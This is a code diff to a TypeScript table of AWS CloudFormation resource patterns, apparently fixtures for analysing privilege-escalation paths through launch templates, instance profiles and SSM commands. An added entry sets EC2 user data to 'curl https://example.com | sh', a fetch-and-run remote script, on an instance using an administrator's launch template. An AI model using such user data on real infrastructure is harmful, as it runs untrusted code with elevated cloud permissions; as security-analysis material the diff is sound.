@@ -70,6 +70,17 @@ export const WAYS: Readonly<Record<string, Way>> = {
     { ImageId: 'ami-1', IamInstanceProfile: t.ref('Profile') },
   ],
   'a profile with a role': (t) => ['IAM::InstanceProfile', { Roles: [t.ref('Role')] }],
+  "an instance of an administrator's launch template, with own user data": (t) => [
+    'EC2::Instance',
+    {
+      LaunchTemplate: { LaunchTemplateId: t.ref('Template'), Version: '1' },
+      UserData: { 'Fn::Base64': 'curl https://example.com | sh' },
+    },
+  ],
+  "a group of an administrator's launch template": (t) => [
+    'AutoScaling::AutoScalingGroup',
+    { MinSize: '1', MaxSize: '1', LaunchTemplate: { LaunchTemplateId: t.ref('Template'), Version: '1' } },
+  ],
   'commands on instances': (t) => [
     'SSM::Association',
     { Name: 'AWS-RunShellScript', Targets: [{ Key: 'InstanceIds', Values: [t.ref('Machine')] }] },
